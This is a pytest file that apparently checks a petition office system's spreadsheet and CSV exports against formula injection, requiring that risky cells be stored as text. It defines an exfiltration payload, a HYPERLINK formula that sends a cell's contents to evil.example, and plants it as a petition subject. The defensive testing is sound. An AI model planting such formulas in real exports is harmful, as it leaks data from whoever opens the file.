"""A petitioner writes the subject, so no export may turn it into a live formula (OWASP CSV
injection): every cell that starts with =, +, -, @, a tab or a carriage return is written as text —
in .xlsx a string cell (value unchanged, Excel's quote prefix), in CSV behind an apostrophe."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from office.exports import Sheet, csv_row, workbook
from tests.support.analysis_data import make_office, registered
from tests.support.web import start_petition

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
RISKY = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
ROOT = Path(__file__).resolve().parents[3]


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_the_workbook_writer_keeps_formula_like_text_as_text():
    rows = [{"text": value, "number": -5} for value in RISKY]
    found = cells(workbook([Sheet("s", [("text", "文本"), ("number", "数")], rows, title="=1+1")]))
    for value in RISKY + ["=1+1"]:
        cell = next(c for c in found if c.value == value)
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert [c.value for c in found if c.data_type == "n" and c.value is not None] == [-5] * len(RISKY), "numbers stay numbers"


def test_the_csv_helper_puts_an_apostrophe_before_formula_like_text():
    assert csv_row([*RISKY, -5, "普通", "a=b"]) == [*("'" + v for v in RISKY), -5, "普通", "a=b"]


def test_every_exporter_writes_through_the_one_helper():
    """openpyxl is used in office/exports.py only; every CSV writer passes its rows through csv_row."""
    for path in [*ROOT.glob("office/**/*.py"), *ROOT.glob("webui/**/*.py"), *ROOT.glob("cli/**/*.py")]:
        text = path.read_text(encoding="utf-8")
        if path.name != "exports.py":
            assert "openpyxl" not in text, path
        if "csv.writer" in text or "DictWriter" in text:
            assert text.count("csv_row(") >= text.count("writerow"), path


def test_the_inbox_csv_export_writes_the_subject_as_text(office, as_user):
    start_petition(office, subject=EVIL)
    job = office.jobs.start_inbox_export(user="clerk", wait=True)
    download = as_user("clerk").get(f"/jobs/{job['id']}/download")
    assert download.status_code == 200
    raw = download.get_data(as_text=True)
    assert '"\'=HYPERLINK(' in raw and "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
    assert "'" + EVIL in rows[1]


@pytest.fixture
def evil_cases(office):
    office.ids = make_office(office, {
        "E": dict(subject=EVIL, region="R1", unit="district_gov", persons=6, **registered("03")),
        "F": dict(subject="夜间施工噪音扰民", region="R1", unit="district_gov", persons=6, **registered("05"))})
    return office


@pytest.mark.parametrize("url, whole", [("/analysis/selection.xlsx?month=2026-10", True),
                                        ("/analysis/hotspots.xlsx?month=2026-10", False)])    # topics: words of it
def test_analysis_workbooks_write_the_subject_as_text(evil_cases, as_user, url, whole):
    response = as_user("director").get(url)
    assert response.status_code == 200
    every = cells(response.data)
    assert not [c.value for c in every if c.data_type == "f"], "no formula anywhere"
    found = [c for c in every if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert found and all(c.data_type == "s" for c in found)
    if whole:
        assert any(c.value == EVIL and c.quotePrefix for c in found), [c.value for c in found]
